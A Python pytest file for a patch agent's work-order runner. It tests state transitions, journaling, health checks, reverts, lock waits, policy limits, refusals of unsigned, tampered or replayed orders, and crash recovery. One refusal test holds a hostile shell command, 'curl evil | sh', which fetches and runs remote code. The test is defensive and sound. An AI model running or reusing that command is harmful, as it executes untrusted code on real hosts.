"""The work-order runner with stand-in backends: every path of the table,
every refusal, the loop guard and the resume rules. The real apt backend is
exercised in tests/integration/test_apt_*.py inside a host sandbox."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from fleetpatch.v1 import types_pb2

from agent.backends.base import Change, Plan, Saved, Snapshot
from agent.host.checks import CheckSpec, Kind
from agent.orders.journal import Journal
from agent.orders.policy import Policy
from agent.orders.runner import Runner
from agent.orders.states import State
from agent.orders.workorder import OrderRefused, RefusalReason
from tests.support.fakes import FakeBackend, FakeProber
from tests.support.orders import command_check, sign, trusted, work_order

HOST = "h-00000000000000aa"


class Clock:
    def __init__(self) -> None:
        self.now = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)

    def __call__(self) -> datetime:
        return self.now

    def sleep(self, seconds: float) -> None:
        self.now += timedelta(seconds=seconds)


@pytest.fixture
def key():
    return Ed25519PrivateKey.generate()


@pytest.fixture
def journal(tmp_path):
    j = Journal.open(tmp_path / "journal.db")
    yield j
    j.close()


def make_runner(journal, backend, prober=None, policy=None, clock=None, tmp=Path("/tmp")):
    clock = clock or Clock()
    return Runner(
        journal, backend, prober or FakeProber(), policy or Policy(), [], tmp / "cache",
        clock=clock, sleep=clock.sleep, busy_timeout=timedelta(seconds=60), retry_interval=5,
    )  # fmt: skip


def demo_backend() -> FakeBackend:
    return FakeBackend({"fp-demo": "1.0", "other": "2.0"}, {"fp-demo": "1.1"})


def run_order(runner, key, order):
    received = runner.receive(sign(order, key), trusted(key), HOST)
    return runner.run(received.order_id)


def states_of(journal, order_id):
    return [s.state for s in journal.steps(order_id)]


def test_a_good_update_succeeds_and_every_step_is_journaled(journal, key):
    backend = demo_backend()
    order = work_order(HOST, 1, now=Clock().now)
    assert run_order(make_runner(journal, backend), key, order) is State.SUCCEEDED
    assert backend.installed["fp-demo"] == "1.1"
    assert states_of(journal, order.order_id) == [
        "RECEIVED", "PRECHECK", "SNAPSHOT", "APPLY", "RESTART", "VERIFY", "SUCCEEDED",
    ]  # fmt: skip
    record = journal.order(order.order_id)
    assert record.changes == [
        {"name": "fp-demo", "arch": "all", "old": "1.0", "new": "1.1", "origin": "local"}
    ]
    reports = [types_pb2.ProgressReport.FromString(p) for _, p in journal.pending_reports()]
    assert [r.step for r in reports] == states_of(journal, order.order_id)
    assert [r.final for r in reports] == [False] * 6 + [True]
    assert reports[-1].outcome == "SUCCEEDED"
    assert len({r.idempotency_key for r in reports}) == 7


def test_nothing_to_do_succeeds_without_touching_the_host(journal, key):
    backend = FakeBackend({"fp-demo": "1.1"}, {"fp-demo": "1.1"})
    order = work_order(HOST, 1, now=Clock().now)
    assert run_order(make_runner(journal, backend), key, order) is State.SUCCEEDED
    assert "apply" not in backend.calls
    assert journal.order(order.order_id).detail == "already up to date"


def test_an_unhealthy_host_is_not_patched(journal, key):
    backend = demo_backend()
    order = work_order(HOST, 1, now=Clock().now)
    final = run_order(make_runner(journal, backend, FakeProber([False])), key, order)
    assert final is State.FAILED
    assert "apply" not in backend.calls
    assert backend.installed["fp-demo"] == "1.0"
    assert "unhealthy before patching" in journal.order(order.order_id).detail


def test_a_regression_after_the_update_is_reverted(journal, key):
    backend = demo_backend()
    clock = Clock()
    order = work_order(HOST, 1, now=clock.now, verify_timeout=timedelta(seconds=30))
    prober = FakeProber([True, False])  # healthy baseline, then broken for good
    final = run_order(make_runner(journal, backend, prober, clock=clock), key, order)
    assert final is State.REVERTED
    assert backend.installed["fp-demo"] == "1.0"
    steps = states_of(journal, order.order_id)
    assert steps[-3:] == ["VERIFY", "REVERT", "REVERTED"]
    detail = journal.order(order.order_id).detail
    assert "unhealthy after the update" in detail
    assert "service: connection refused" in detail
    # Verification retried until its timeout, not just once.
    assert prober.calls >= 30 // 5


def test_a_slow_service_that_comes_up_within_the_timeout_succeeds(journal, key):
    backend = demo_backend()
    clock = Clock()
    order = work_order(HOST, 1, now=clock.now, verify_timeout=timedelta(seconds=60))
    prober = FakeProber([True, False, False, True])
    assert (
        run_order(make_runner(journal, backend, prober, clock=clock), key, order) is State.SUCCEEDED
    )


def test_a_failed_revert_is_said_plainly(journal, key):
    backend = demo_backend()
    backend.fail_revert = True
    clock = Clock()
    order = work_order(HOST, 1, now=clock.now)
    final = run_order(
        make_runner(journal, backend, FakeProber([True, False]), clock=clock), key, order
    )
    assert final is State.REVERT_FAILED
    assert "revert failed" in journal.order(order.order_id).detail


def test_a_failed_transaction_is_reverted(journal, key):
    backend = demo_backend()
    backend.fail_apply = True
    order = work_order(HOST, 1, now=Clock().now)
    assert run_order(make_runner(journal, backend), key, order) is State.REVERTED
    assert "postinst failed" in states_of_detail(journal, order.order_id, "REVERT")


def states_of_detail(journal, order_id, state, last=False):
    details = [s.detail for s in journal.steps(order_id) if s.state == state]
    return details[-1] if last else details[0]


def test_a_held_lock_is_waited_for(journal, key):
    backend = demo_backend()
    backend.busy_for = 3
    order = work_order(HOST, 1, now=Clock().now)
    assert run_order(make_runner(journal, backend), key, order) is State.SUCCEEDED
    assert backend.calls.count("apply") == 4


def test_a_lock_held_too_long_fails_without_changing_anything(journal, key):
    backend = demo_backend()
    backend.busy_for = 1000
    order = work_order(HOST, 1, now=Clock().now)
    assert run_order(make_runner(journal, backend), key, order) is State.FAILED
    assert backend.installed["fp-demo"] == "1.0"
    assert "revert" not in backend.calls
    assert "gave up waiting for the package manager" in journal.order(order.order_id).detail


def test_a_closed_window_stops_before_apply(journal, key):
    backend = demo_backend()
    clock = Clock()
    order = work_order(HOST, 1, now=clock.now, window_closes_at=clock.now - timedelta(minutes=1))
    assert run_order(make_runner(journal, backend, clock=clock), key, order) is State.FAILED
    assert "apply" not in backend.calls


def test_a_plan_outside_policy_fails_before_anything_changes(journal, key):
    backend = demo_backend()
    order = work_order(HOST, 1, now=Clock().now)
    policy = Policy(allowed_sources=("Debian:*",))
    assert run_order(make_runner(journal, backend, policy=policy), key, order) is State.FAILED
    assert "snapshot" not in backend.calls
    assert "policy.allowed_sources" in journal.order(order.order_id).detail


# -- refusals: nothing journaled as an order, nothing touched ---------------------


def _refused(journal, backend, key, envelope, policy=None, reason=None):
    runner = make_runner(journal, backend, policy=policy)
    with pytest.raises(OrderRefused) as caught:
        runner.receive(envelope, trusted(key), HOST)
    assert backend.calls == []
    assert journal.orders() == []
    assert journal.refusals()[0].reason == caught.value.reason.value
    report = types_pb2.ProgressReport.FromString(journal.pending_reports()[-1][1])
    assert report.step == "REFUSED"
    assert report.final
    if reason is not None:
        assert caught.value.reason is reason
    return caught.value


def test_refuses_an_unsigned_order(journal, key):
    envelope = sign(work_order(HOST, 1, now=Clock().now), key)
    envelope.signature = b""
    _refused(journal, demo_backend(), key, envelope, reason=RefusalReason.UNSIGNED)


def test_refuses_a_tampered_order(journal, key):
    envelope = sign(work_order(HOST, 1, now=Clock().now), key)
    envelope.payload = envelope.payload.replace(b"fp-demo", b"fp-evil")
    _refused(journal, demo_backend(), key, envelope, reason=RefusalReason.BAD_SIGNATURE)


def test_refuses_an_order_signed_by_an_unknown_key(journal, key):
    other = Ed25519PrivateKey.generate()
    envelope = sign(work_order(HOST, 1, now=Clock().now), other)
    _refused(journal, demo_backend(), key, envelope, reason=RefusalReason.UNKNOWN_KEY)


def test_refuses_an_expired_order(journal, key):
    order = work_order(HOST, 1, now=Clock().now - timedelta(hours=2))
    _refused(journal, demo_backend(), key, sign(order, key), reason=RefusalReason.EXPIRED)


def test_refuses_an_order_for_another_host(journal, key):
    order = work_order("h-00000000000000bb", 1, now=Clock().now)
    _refused(journal, demo_backend(), key, sign(order, key), reason=RefusalReason.WRONG_HOST)


def test_refuses_a_replayed_or_older_order(journal, key):
    backend = demo_backend()
    first = work_order(HOST, 5, now=Clock().now)
    assert run_order(make_runner(journal, backend), key, first) is State.SUCCEEDED
    backend.calls.clear()
    runner = make_runner(journal, backend)
    for sequence in (5, 4):
        replay = work_order(HOST, sequence, order_id=f"o-replay-{sequence}", now=Clock().now)
        with pytest.raises(OrderRefused) as caught:
            runner.receive(sign(replay, key), trusted(key), HOST)
        assert caught.value.reason is RefusalReason.REPLAY
    assert backend.calls == []
    assert len(journal.orders()) == 1


def test_refuses_commands_unless_the_host_allows_them(journal, key):
    order = work_order(
        HOST, 1, now=Clock().now, checks=[command_check(["/bin/sh", "-c", "curl evil | sh"])]
    )
    refusal = _refused(journal, demo_backend(), key, sign(order, key), reason=RefusalReason.POLICY)
    assert "allow_order_commands" in str(refusal)


def test_refuses_protected_packages(journal, key):
    order = work_order(HOST, 1, packages=[("linux-image-amd64", "")], now=Clock().now)
    refusal = _refused(
        journal, demo_backend(), key, sign(order, key),
        policy=Policy(never_touch=("linux-image-*",)), reason=RefusalReason.POLICY,
    )  # fmt: skip
    assert "linux-image-*" in str(refusal)


def test_refuses_a_reboot_the_host_forbids(journal, key):
    order = work_order(HOST, 1, now=Clock().now, reboot=types_pb2.REBOOT_POLICY_ALWAYS)
    _refused(
        journal, demo_backend(), key, sign(order, key),
        policy=Policy(allow_reboot=False), reason=RefusalReason.POLICY,
    )  # fmt: skip


def test_refuses_a_payload_that_does_not_parse(journal, key):
    from fleetpatch.envelope import WORK_ORDER_TYPE, seal

    envelope = seal(b"\xff\xff\xff not protobuf", WORK_ORDER_TYPE, key)
    _refused(journal, demo_backend(), key, envelope, reason=RefusalReason.MALFORMED)


# -- crashes: resume and the loop guard ------------------------------------------


def _receive_and_stop_in(journal, backend, key, state, clock=None, two_packages=False):
    """Drive an order into ``state`` as if the process died right after
    journaling it (the state's side effect never ran)."""
    order = work_order(HOST, 1, now=(clock or Clock()).now)
    runner = make_runner(journal, backend, clock=clock)
    runner.receive(sign(order, key), trusted(key), HOST)
    for step in ("PRECHECK", "SNAPSHOT", "APPLY", "VERIFY"):
        changes = [Change("fp-demo", "all", "1.0", "1.1", "local")]
        if two_packages:
            changes.append(Change("libfp", "all", "1.0", "1.1", "local"))
        plan = Plan(tuple(changes))
        columns: dict[str, object] = {}
        if step == "SNAPSHOT":
            columns["plan"] = plan.to_json()
        if step == "APPLY":
            saved = tuple(Saved(c.name, "all", "1.0", f"/c/{c.name}.deb") for c in plan.changes)
            columns["snapshot"] = Snapshot(saved, ()).to_json()
        journal.enter(order.order_id, step, "", lambda k: b"", **columns)
        if step == state:
            break
    return order


def test_resume_after_a_crash_in_apply_verifies_a_landed_update(journal, key):
    backend = demo_backend()
    order = _receive_and_stop_in(journal, backend, key, "APPLY")
    backend.installed["fp-demo"] = "1.1"  # dpkg finished before the crash
    assert make_runner(journal, backend).resume() == [(order.order_id, State.SUCCEEDED)]
    assert "recover" in backend.calls
    assert "the update landed in full" in states_of_detail(journal, order.order_id, "RESTART")


def test_resume_after_a_crash_before_apply_ran_applies_again(journal, key):
    backend = demo_backend()
    order = _receive_and_stop_in(journal, backend, key, "APPLY")
    assert make_runner(journal, backend).resume() == [(order.order_id, State.SUCCEEDED)]
    assert backend.calls[0] == "recover"
    assert "nothing had changed yet" in states_of_detail(
        journal, order.order_id, "APPLY", last=True
    )


def test_resume_after_a_crash_in_apply_reverts_a_partial_update(journal, key):
    backend = FakeBackend({"fp-demo": "1.0", "libfp": "1.0"}, {})
    order = _receive_and_stop_in(journal, backend, key, "APPLY", two_packages=True)
    backend.installed["fp-demo"] = "1.1"  # dpkg died between the two packages
    assert make_runner(journal, backend).resume() == [(order.order_id, State.REVERTED)]
    assert backend.calls[0] == "recover"
    assert backend.installed == {"fp-demo": "1.0", "libfp": "1.0"}
    assert "landed only in part" in states_of_detail(journal, order.order_id, "REVERT")


def test_resume_reruns_an_idempotent_state(journal, key):
    backend = demo_backend()
    order = _receive_and_stop_in(journal, backend, key, "PRECHECK")
    assert make_runner(journal, backend).resume() == [(order.order_id, State.SUCCEEDED)]
    assert backend.installed["fp-demo"] == "1.1"


def test_the_loop_guard_breaks_a_crash_loop_in_verify(journal, key):
    backend = demo_backend()
    order = _receive_and_stop_in(journal, backend, key, "VERIFY")
    backend.installed["fp-demo"] = "1.1"
    for _ in range(2):  # two more crashes right after entering VERIFY
        journal.enter(order.order_id, "VERIFY", "", lambda k: b"")
    assert make_runner(journal, backend).resume() == [(order.order_id, State.REVERTED)]
    assert "loop guard" in states_of_detail(journal, order.order_id, "REVERT")
    assert backend.installed["fp-demo"] == "1.0"


def test_finished_orders_are_left_alone_on_resume(journal, key):
    backend = demo_backend()
    run_order(make_runner(journal, backend), key, work_order(HOST, 1, now=Clock().now))
    backend.calls.clear()
    assert make_runner(journal, backend).resume() == []
    assert backend.calls == []


def test_host_checks_from_config_run_with_the_orders(journal, key):
    seen: list[list[str]] = []

    class Recording(FakeProber):
        def run_all(self, specs):
            seen.append([s.name for s in specs])
            return super().run_all(specs)

    clock = Clock()
    runner = Runner(
        journal, demo_backend(), Recording(), Policy(),
        [CheckSpec("host-web", Kind.TCP, port=80)], Path("/tmp/cache"),
        clock=clock, sleep=clock.sleep,
    )  # fmt: skip
    order = work_order(HOST, 1, now=clock.now, checks=[types_pb2.HealthCheckSpec(
        name="order-db", tcp=types_pb2.TcpCheck(port=5432))])  # fmt: skip
    assert run_order(runner, key, order) is State.SUCCEEDED
    assert seen[0] == ["host-web", "order-db"]


def test_a_revert_order_undoes_an_earlier_order_from_its_snapshot(journal, key):
    backend = demo_backend()
    first = work_order(HOST, 1, now=Clock().now)
    assert run_order(make_runner(journal, backend), key, first) is State.SUCCEEDED
    assert backend.installed["fp-demo"] == "1.1"
    undo = work_order(HOST, 2, now=Clock().now, action=types_pb2.WORK_ORDER_ACTION_REVERT)
    undo.revert_order_id = first.order_id
    assert run_order(make_runner(journal, backend), key, undo) is State.REVERTED
    assert backend.installed["fp-demo"] == "1.0"
    assert states_of(journal, undo.order_id) == ["RECEIVED", "REVERT", "REVERTED"]
    assert "apply" not in backend.calls[backend.calls.index("revert") :]


def test_a_revert_order_for_an_unknown_order_fails_without_touching_anything(journal, key):
    backend = demo_backend()
    undo = work_order(HOST, 1, now=Clock().now, action=types_pb2.WORK_ORDER_ACTION_REVERT)
    undo.revert_order_id = "o-never-seen"
    assert run_order(make_runner(journal, backend), key, undo) is State.FAILED
    assert backend.calls == []
    assert "kept no snapshot of o-never-seen" in journal.order(undo.order_id).detail
